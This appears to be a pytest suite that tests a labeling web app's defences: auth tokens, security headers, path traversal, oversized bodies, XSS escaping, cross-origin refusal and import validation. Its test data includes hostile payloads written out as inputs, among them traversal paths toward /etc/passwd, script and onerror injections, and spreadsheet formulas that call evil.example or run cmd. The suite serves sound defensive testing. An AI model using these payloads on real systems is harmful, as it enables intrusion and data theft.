"""The labeling app's defences: each hostile or careless request is refused, nothing leaks, nothing 500s.

Issue 10, item 12: (a) links in the results folder serve nothing but
segmentation images; (b) odd input is a 4xx, never a 500; (c) cross-origin
writes (login CSRF) are refused; (d) CSV exports cannot run spreadsheet
formulas; (e) imports are checked by the app's own validation. Also the
defences that were there before: tokens, security headers, path traversal,
body size, escaping.
"""

from __future__ import annotations

import csv
import json
import os

import pytest

pytest.importorskip("fastapi", reason="the labeling app needs fastapi (pip install 'unitscope[label]')")
httpx = pytest.importorskip("httpx")
from fastapi.testclient import TestClient  # noqa: E402

from unitscope.label import LabelStore, UnitKey, create_app, export_answers, import_answers, load_catalog  # noqa: E402
from unitscope.label.app import COOKIE, MAX_BODY_BYTES  # noqa: E402
from unitscope.label.transfer import read_answers  # noqa: E402

from conftest_label import SCRIPT, LiveServer, answer, bearer, lab, make_results, open_lab, results  # noqa: E402,F401 (fixtures)

JSON = {"content-type": "application/json"}


# -- tokens and headers -----------------------------------------------------


@pytest.mark.parametrize(
    "method, path",
    [
        ("GET", "/api/next"),
        ("GET", "/api/progress"),
        ("POST", "/api/answers"),
        ("GET", "/history"),
        ("GET", "/image/scenenet/conv5/0/000_img0x0.jpg"),
    ],
)
def test_requests_without_a_valid_token_are_refused(lab, method, path):
    client, tokens, store = lab
    body = json.dumps(answer(0))
    for headers in ({}, bearer("not-a-token"), bearer(""), {"Authorization": f"Basic {tokens['ada']}"}):
        response = client.request(method, path, headers=dict(headers, **{"content-type": "application/json"}), content=body)
        assert response.status_code == 401, (path, headers)
    client.cookies.set(COOKIE, "forged-cookie")
    assert client.request(method, path, content=body).status_code == 401
    assert store.answers() == []


def test_static_files_need_no_token_and_pages_send_security_headers(lab):
    client, tokens, _ = lab
    assert client.get("/static/app.js").status_code == 200
    assert client.get("/static/style.css").status_code == 200
    response = client.get("/", headers=bearer(tokens["ada"]))
    csp = response.headers["content-security-policy"]
    assert "script-src 'self'" in csp and "unsafe-inline" not in csp
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["x-frame-options"] == "DENY"
    assert "<script>" not in response.text.replace('<script src="/static/app.js"></script>', "")

@pytest.mark.parametrize(
    "body, status, message",
    [
        (answer(9), 404, "unknown unit"),
        (answer(0, layer="conv9"), 404, "unknown unit"),
        (answer(0, marked=["img1x0"]), 422, "marked images not shown"),
        (answer(0, type="thing"), 422, "type"),
        (answer(0, label="   "), 422, "empty"),
        (answer(0, label="bed\x00"), 422, "control characters"),
        (answer(0, label="x" * 101), 422, "at most 100"),
        (answer("0"), 422, "valid integer"),
        (answer(-1), 422, "unit must be an integer in 0..2147483647, got -1"),
        (answer(0, extra="field"), 422, "Extra inputs"),
        (answer(0, marked="img0x0"), 422, "valid list"),
        (answer(0, marked=["img0x0", "img0x0"]), 422, "duplicates"),
        ({"network": "scenenet"}, 422, "Field required"),
    ],
)
def test_invalid_answers_are_refused(lab, body, status, message):
    client, tokens, store = lab
    response = client.post("/api/answers", headers=bearer(tokens["ada"]), json=body)
    assert response.status_code == status
    assert message in json.dumps(response.json())
    assert store.answers() == []


@pytest.mark.parametrize("raw", [b"{not json", b'{"unit": 0,', b"", b"[1, 2]", b"\xff\xfe"])
def test_malformed_json_is_refused(lab, raw):
    client, tokens, store = lab
    headers = dict(bearer(tokens["ada"]), **{"content-type": "application/json"})
    response = client.post("/api/answers", headers=headers, content=raw)
    assert response.status_code == 422
    assert store.answers() == []


def test_oversized_bodies_are_refused(lab):
    client, tokens, store = lab
    headers = dict(bearer(tokens["ada"]), **{"content-type": "application/json"})
    huge = json.dumps(answer(0, label="bed", marked=["x" * 200] * 400)).encode()
    assert len(huge) > MAX_BODY_BYTES
    response = client.post("/api/answers", headers=headers, content=huge)
    assert response.status_code == 413 and "larger than 65536 bytes" in response.json()["detail"]

    def chunks():  # no Content-Length: the limit is counted while reading
        for _ in range(20):
            yield b" " * 8192

    response = client.post("/api/answers", headers=headers, content=chunks())
    assert response.status_code == 413
    response = client.post("/api/answers", headers=dict(headers, **{"content-length": "99999999"}), content=b"{}")
    assert response.status_code == 413
    response = client.post("/login", content=b"token=" + b"a" * (MAX_BODY_BYTES + 1))
    assert response.status_code == 413
    assert store.answers() == []


TRAVERSALS = [
    "/image/scenenet/conv5/0/..%2f..%2f..%2f..%2flabels.sqlite",
    "/image/scenenet/conv5/0/..%2F..%2F..%2Fdissect%2Funits.csv",
    "/image/scenenet/conv5/0/%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2flabels.sqlite",
    "/image/..%2f..%2flabels.sqlite/conv5/0/000_img0x0.jpg",
    "/image/scenenet/..%2fdissect/0/units.csv",
    "/image/scenenet/conv5/..%2f..%2fdissect/units.csv",
    "/image/scenenet/conv5/0/%2fetc%2fpasswd",
    "/image/scenenet/conv5/0/..%5c..%5c..%5c..%5clabels.sqlite",
    "/image/scenenet/conv5/0/000_img0x0.jpg%00.sqlite",
    "/image/scenenet/conv5/0/../../../../labels.sqlite",
    "/image/scenenet/conv5/0/evil.jpg",
    "/image/scenenet/conv5/0/005_escape.jpg",
    "/image/scenenet/conv5/0/003_db.jpg",
    "/image/scenenet/conv5/0/004_units.jpg",
    "/static/..%2f..%2flabel%2fapp.py",
    "/static/..%2fapp.py",
    "/static/%2e%2e/app.py",
]


@pytest.fixture(scope="module")
def planted(tmp_path_factory):
    """Results whose unit 0 folder holds links to a file outside the results directory and to files inside it."""
    root = tmp_path_factory.mktemp("planted")
    results = make_results(root, networks={"scenenet": {"conv5": 1}}, n_images=2)
    (root / "secret.txt").write_text("SECRET")
    folder = results / "scenenet" / "segmentations" / "conv5" / "0"
    os.symlink(root / "secret.txt", folder / "005_escape.jpg")
    # Issue 10, 12(a): links that stay inside the results folder but leave the image folders.
    os.symlink("../../../../labels.sqlite", folder / "003_db.jpg")
    os.symlink("../../../dissect/units.csv", folder / "004_units.jpg")
    store = LabelStore(results / "labels.sqlite")
    token = store.add_annotator("ada")
    app = create_app(results, store=store)
    # None of them is even listed; a link planted after the catalog was made is not served either.
    assert app.state.catalog.units[0].image_ids == ("img0x0", "img0x1")
    with TestClient(app) as client:
        yield client, token, results


@pytest.mark.parametrize("path", TRAVERSALS)
def test_image_routes_serve_only_the_units_images(planted, path):
    client, token, _ = planted
    response = client.get(path, headers=bearer(token))
    assert response.status_code in (400, 404), response.status_code
    assert b"SECRET" not in response.content
    assert b"SQLite format" not in response.content
    assert b"network,layer" not in response.content
    assert b"def create_app" not in response.content
    assert client.get("/image/scenenet/conv5/0/000_img0x0.jpg", headers=bearer(token)).status_code == 200

# -- escaping ---------------------------------------------------------------


def test_labels_are_rendered_escaped(lab):
    client, tokens, store = lab
    # The automatic label of unit 3 is a script: it reaches the page as a datalist suggestion.
    page = client.get("/", headers=bearer(tokens["ada"])).text
    assert '<option value="&lt;script&gt;alert(1)&lt;/script&gt;">' in page
    assert SCRIPT not in page
    # An annotator's label with markup is stored as typed and shown escaped.
    body = answer(0, label=SCRIPT + '"><img src=x onerror=alert(2)>')
    assert client.post("/api/answers", headers=bearer(tokens["ada"]), json=body).status_code == 200
    assert store.answers()[0].label == body["label"]
    history = client.get("/history", headers=bearer(tokens["ada"])).text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;&#34;&gt;&lt;img src=x onerror=alert(2)&gt;" in history
    assert SCRIPT not in history and "<img src=x" not in history



# -- (a) links inside the results folder --------------------------------------


def test_a_link_planted_after_the_catalog_was_made_is_not_served(lab, results):
    client, tokens, _ = lab
    folder = results / "scenenet" / "segmentations" / "conv5" / "1"
    good = client.get("/image/scenenet/conv5/1/001_img1x1.jpg", headers=bearer(tokens["ada"]))
    assert good.status_code == 200 and good.content[:3] == b"\xff\xd8\xff"
    (folder / "001_img1x1.jpg").unlink()
    os.symlink("../../../../labels.sqlite", folder / "001_img1x1.jpg")
    (folder / "002_img1x2.jpg").write_text("network,layer,unit\n")  # a regular file, but not an image
    for name in ("001_img1x1.jpg", "002_img1x2.jpg"):
        response = client.get(f"/image/scenenet/conv5/1/{name}", headers=bearer(tokens["ada"]))
        assert response.status_code == 404
        assert b"SQLite format" not in response.content and b"network,layer" not in response.content


def test_links_between_segmentations_and_a_moved_segmentations_folder_still_work(tmp_path):
    results = make_results(tmp_path, networks={"scenenet": {"conv5": 2}}, n_images=2, size=16)
    folder = results / "scenenet" / "segmentations" / "conv5"
    os.symlink("../0/000_img0x0.jpg", folder / "1" / "005_shared.jpg")  # a tile shared by two units
    os.mkfifo(folder / "1" / "006_fifo.jpg")  # never listed, never opened (opening would block)
    moved = tmp_path / "elsewhere"
    (results / "scenenet" / "segmentations").rename(moved)
    os.symlink(moved, results / "scenenet" / "segmentations")  # tiles kept on another disk
    with open_lab(results) as (client, tokens, _):
        entry = client.app.state.catalog.get(UnitKey("scenenet", "conv5", 1))
        assert entry.image_ids == ("img1x0", "img1x1", "shared")
        response = client.get("/image/scenenet/conv5/1/005_shared.jpg", headers=bearer(tokens["ada"]))
        assert response.status_code == 200
        assert response.content == (moved / "conv5" / "0" / "000_img0x0.jpg").read_bytes()
        assert client.get("/image/scenenet/conv5/1/006_fifo.jpg", headers=bearer(tokens["ada"])).status_code == 404


# -- (b) odd input is a 4xx, never a 500 --------------------------------------


ODD_REQUESTS = {
    "superscript-two-as-unit": ("GET", "/image/scenenet/conv5/%C2%B2/x.jpg", None),
    "arabic-digit-as-unit": ("GET", "/image/scenenet/conv5/%D9%A3/000_img3x0.jpg", None),
    "unit-with-5000-digits": ("GET", "/image/scenenet/conv5/" + "9" * 5000 + "/x.jpg", None),
    "negative-unit-in-path": ("GET", "/image/scenenet/conv5/-1/000_img0x0.jpg", None),
    "emoji-network": ("GET", "/image/%F0%9F%98%80/conv5/0/000_img0x0.jpg", None),
    "invalid-utf8-in-path": ("GET", "/image/%ff/conv5/0/000_img0x0.jpg", None),
    "NaN-network": ("POST", "/api/answers", b'{"network": NaN}'),
    "Infinity-unit": ("POST", "/api/answers", json.dumps(answer(0)).replace('"unit": 0', '"unit": Infinity').encode()),
    "1e999-unit": ("POST", "/api/answers", json.dumps(answer(0)).replace('"unit": 0', '"unit": 1e999').encode()),
    "float-unit": ("POST", "/api/answers", json.dumps(answer(0)).replace('"unit": 0', '"unit": 0.0').encode()),
    "bool-unit": ("POST", "/api/answers", json.dumps(answer(0)).replace('"unit": 0', '"unit": true').encode()),
    "unit-10**40": ("POST", "/api/answers", json.dumps(answer(10**40)).encode()),
    "lone-surrogate-label": ("POST", "/api/answers", json.dumps(answer(0)).replace('"bed"', '"\\ud800"').encode()),
    "lone-surrogate-network": ("POST", "/api/answers", json.dumps(answer(0)).replace('"scenenet"', '"\\udfff"').encode()),
    "lone-surrogate-marked": ("POST", "/api/answers", json.dumps(answer(0, marked=["\ud800"])).encode()),
    "bidi-override-label": ("POST", "/api/answers", json.dumps(answer(0, label="bed\u202e")).encode()),
    "newline-in-label": ("POST", "/api/answers", json.dumps(answer(0, label="bed\nroom")).encode()),
    "null-label": ("POST", "/api/answers", json.dumps(answer(0, label=None)).encode()),
    "list-label": ("POST", "/api/answers", json.dumps(answer(0, label=["bed"])).encode()),
    "object-type": ("POST", "/api/answers", json.dumps(answer(0, type={"a": 1})).encode()),
    "numbers-in-marked": ("POST", "/api/answers", json.dumps(answer(0, marked=[1, 2])).encode()),
    "2000-marked": ("POST", "/api/answers", json.dumps(answer(0, marked=[str(i) for i in range(2000)])).encode()),
    "missing-label": ("POST", "/api/answers", json.dumps({k: v for k, v in answer(0).items() if k != "label"}).encode()),
    "json-array": ("POST", "/api/answers", b"[1, 2]"),
    "json-string": ("POST", "/api/answers", b'"answer"'),
    "json-null": ("POST", "/api/answers", b"null"),
    "nested-30000-deep": ("POST", "/api/answers", b"[" * 30000 + b"]" * 30000),
    "form-body": ("POST", "/api/answers", b"network=scenenet&unit=0"),
    "latin1-body": ("POST", "/api/answers", json.dumps(answer(0, label="b\u00e9d"), ensure_ascii=False).encode("latin-1")),
    "empty-body": ("POST", "/api/answers", b""),
    "login-invalid-utf8": ("POST", "/login", b"token=\xff\xfe%ff"),
    "login-nul-token": ("POST", "/login", b"token=%00"),
    "login-huge-token": ("POST", "/login", b"token=" + b"a" * 5000),
}


@pytest.mark.parametrize("method, path, body", list(ODD_REQUESTS.values()), ids=list(ODD_REQUESTS))
def test_odd_input_is_a_client_error_never_a_server_error(lab, method, path, body):
    client, tokens, store = lab
    response = client.request(method, path, headers=dict(bearer(tokens["ada"]), **JSON), content=body)
    assert 400 <= response.status_code < 500, (response.status_code, response.text[:300])
    if response.headers.get("content-type") == "application/json":
        assert response.json()["detail"]  # says why
    assert store.answers() == []


def test_nan_and_superscript_units_say_why(lab):
    client, tokens, _ = lab
    response = client.post("/api/answers", headers=dict(bearer(tokens["ada"]), **JSON), content=b'{"network": NaN}')
    assert (response.status_code, response.json()) == (422, {"detail": "the body is not valid JSON: NaN is not valid JSON"})
    body = json.dumps(answer(0)).replace('"bed"', '"\\ud800"').encode()  # a lone surrogate, as JSON allows
    response = client.post("/api/answers", headers=dict(bearer(tokens["ada"]), **JSON), content=body)
    assert response.status_code == 422 and "control characters" in response.json()["detail"]
    response = client.get("/image/scenenet/conv5/%C2%B2/x.jpg", headers=bearer(tokens["ada"]))
    assert (response.status_code, response.json()) == (404, {"detail": "no such image"})


@pytest.mark.parametrize(
    "headers",
    [
        [(b"authorization", b"Bearer \xe9\xff")],
        [(b"cookie", COOKIE.encode() + b"=\xff\xfe")],
        [(b"authorization", b"Bearer " + b"a" * 5000)],
        [(b"host", b"[::1"), (b"origin", b"http://[::1")],
        [(b"origin", b"\xff\xfe")],
    ],
    ids=["non-ascii-bearer", "non-ascii-cookie", "5000-char-bearer", "broken-ipv6-host", "binary-origin"],
)
def test_odd_headers_are_a_client_error(lab, headers):
    client, _, _ = lab
    for method, path in (("GET", "/api/next"), ("POST", "/api/answers"), ("POST", "/login")):
        response = client.request(method, path, headers=headers, content=b"token=x")
        assert 400 <= response.status_code < 500, (method, path, response.status_code)


# -- (c) cross-origin writes ----------------------------------------------------


CROSS_ORIGIN = {
    "other-site": {"origin": "http://evil.example"},
    "other-port": {"origin": "http://testserver:8081"},
    "null-origin": {"origin": "null"},
    "other-referer": {"referer": "http://evil.example/form.html"},
    "fetch-metadata-cross-site": {"sec-fetch-site": "cross-site"},
    "fetch-metadata-same-site": {"sec-fetch-site": "same-site", "origin": "http://testserver"},
}


@pytest.mark.parametrize("headers", list(CROSS_ORIGIN.values()), ids=list(CROSS_ORIGIN))
def test_cross_origin_login_logout_and_answers_are_refused(lab, headers):
    client, tokens, store = lab
    response = client.post("/login", data={"token": tokens["ada"]}, headers=headers, follow_redirects=False)
    assert response.status_code == 403 and "cross-origin request refused" in response.json()["detail"]
    assert "set-cookie" not in response.headers
    assert client.post("/logout", headers=headers, follow_redirects=False).status_code == 403
    response = client.post("/api/answers", json=answer(0), headers=dict(bearer(tokens["ada"]), **headers))
    assert response.status_code == 403
    assert store.answers() == []


def test_same_origin_requests_still_work_and_pages_ask_browsers_for_the_origin(results):
    with open_lab(results) as (client, tokens, store), LiveServer(client.app) as server:
        page = client.get("/login")
        # Under "no-referrer" a browser sends "Origin: null" with the login form: it must be same-origin.
        assert page.headers["referrer-policy"] == "same-origin"
        same = {"origin": server.url, "sec-fetch-site": "same-origin", "referer": server.url + "/login"}
        with httpx.Client(base_url=server.url) as browser:
            response = browser.post("/login", data={"token": tokens["ada"]}, headers=same)
            assert response.status_code == 303 and COOKIE in response.headers["set-cookie"]
            assert browser.post("/api/answers", json=answer(0), headers=same).status_code == 200
            assert browser.post("/logout", headers={"origin": server.url}).status_code == 303
    assert [(a.annotator, a.unit) for a in store.answers()] == [("ada", 0)]


# -- (d) CSV export ---------------------------------------------------------------


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "'quoted"]


def test_csv_export_neutralises_formulas_and_import_gives_back_what_was_typed(lab, results, tmp_path):
    client, tokens, store = lab
    for unit, label in enumerate(FORMULAS[:4]):
        client.get("/api/next", headers=bearer(tokens["ada"]))
        response = client.post("/api/answers", headers=bearer(tokens["ada"]), json=answer(unit, label=label))
        assert response.status_code == 200, response.text
    bo = store.annotator_for_token(tokens["bo"])
    store.submit(bo, UnitKey("scenenet", "conv5", 0), label=FORMULAS[4], type="object", marked=[], n_images=6, k=2)
    assert [a.label for a in store.answers()] == FORMULAS  # stored as typed

    exported = tmp_path / "answers.csv"
    export_answers(store, exported)
    with open(exported, newline="", encoding="utf-8") as handle:
        labels = [row["label"] for row in csv.DictReader(handle)]
    assert labels == ["'" + label for label in FORMULAS]
    assert exported.read_text(encoding="utf-8").count("\n=") == 0
    as_json = tmp_path / "answers.json"
    export_answers(store, as_json)
    assert [a["label"] for a in json.loads(as_json.read_text())["answers"]] == FORMULAS  # JSON is not a spreadsheet

    catalog = load_catalog(results, n_images=None)
    other = LabelStore(tmp_path / "other.sqlite")
    assert import_answers(other, exported, catalog=catalog).added == 5
    assert [a.label for a in other.answers()] == FORMULAS
    again = tmp_path / "again.csv"
    export_answers(other, again)
    assert again.read_bytes() == exported.read_bytes()


def test_export_never_overwrites_a_file_it_did_not_write(lab, tmp_path):
    _, _, store = lab
    thesis = tmp_path / "thesis.csv"
    thesis.write_text("chapter,pages\n1,20\n")
    with pytest.raises(FileExistsError, match="exists and is not a unitscope labels export"):
        export_answers(store, thesis)
    assert thesis.read_text() == "chapter,pages\n1,20\n"
    mine = tmp_path / "mine.csv"
    export_answers(store, mine)
    export_answers(store, mine)  # an earlier export is replaced
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith((".mine", "mine"))) == ["mine.csv"]


# -- (e) import checks exactly what the app checks ------------------------------------


BAD_ROWS = {
    "20KB-label-with-control-characters": {"label": ("bed\x07" * 5000)},
    "unit-minus-5": {"unit": -5},
    "layer-dot-dot": {"layer": "../../etc"},
    "unknown-network": {"network": "ghostnet"},
    "marked-not-shown": {"marked": ["img1x0"]},
    "unknown-type": {"type": "thing"},
    "empty-label": {"label": "   "},
    "bidi-override": {"label": "bed\u202e"},
}


def _rejection(client, token, fields):
    response = client.post("/api/answers", headers=bearer(token), json=dict(answer(0), **fields))
    assert response.status_code in (404, 422), response.text
    return response.json()["detail"]


@pytest.mark.parametrize("fields", list(BAD_ROWS.values()), ids=list(BAD_ROWS))
def test_import_refuses_what_the_app_refuses_with_the_same_message(lab, results, tmp_path, fields):
    client, tokens, store = lab
    from_app = _rejection(client, tokens["ada"], fields)
    row = dict(answer(0), **fields, annotator="mallory", n_images=6, shown_at=None,
               submitted_at="2025-01-31T12:00:00.000000Z")
    path = tmp_path / "answers.json"
    path.write_text(json.dumps({"format": "unitscope-labels", "version": 1, "answers": [row]}))
    catalog = load_catalog(results, n_images=None)
    with pytest.raises((ValueError, LookupError)) as error:
        import_answers(store, path, catalog=catalog)
    assert str(error.value) == f"{path} answer 0: {from_app}"
    assert store.answers() == [] and [a.name for a in store.annotators()] == ["ada", "bo", "cy", "dan"]


@pytest.mark.parametrize(
    "column, value, message",
    [
        ("unit", "\u0663", "unit must be a whole number (digits 0-9)"),
        ("unit", " 3", "unit must be a whole number (digits 0-9)"),
        ("n_images", "7", "n_images of unit scenenet/conv5/0 must be in 1..6"),
        ("submitted_at", "yesterday", "submitted_at must be a UTC time"),
        ("annotator", "<b>", "invalid annotator name"),
    ],
)
def test_csv_import_checks_the_fields_only_files_have(results, tmp_path, column, value, message):
    row = dict(answer(0), annotator="ada", marked="[]", n_images="6", shown_at="", submitted_at="2025-01-31T12:00:00.000000Z")
    row[column] = value
    path = tmp_path / "answers.csv"
    with open(path, "w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(row))
        writer.writeheader()
        writer.writerow(row)
    with pytest.raises(ValueError, match="^" + str(path).replace(".", r"\.") + ":2: " + message.replace("(", r"\(").replace(")", r"\)").replace(".", r"\.")):
        read_answers(path, catalog=load_catalog(results, n_images=None))
